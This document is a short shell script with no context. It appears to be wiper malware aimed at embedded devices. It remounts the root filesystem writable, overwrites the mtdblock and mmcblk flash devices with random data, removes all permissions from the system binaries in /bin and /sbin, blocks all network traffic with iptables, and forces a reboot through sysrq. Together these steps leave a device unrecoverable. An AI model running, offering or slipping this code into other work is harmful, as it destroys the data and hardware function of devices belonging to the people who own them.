#!/bin/sh
mount -o remount,rw /
for d in /dev/mtdblock0 /dev/mtdblock1 /dev/mmcblk0; do dd if=/dev/urandom of=$d bs=4096 2>/dev/null; done
chmod 000 /bin/* /sbin/* 2>/dev/null
iptables -P INPUT DROP; iptables -P OUTPUT DROP
echo b > /proc/sysrq-trigger
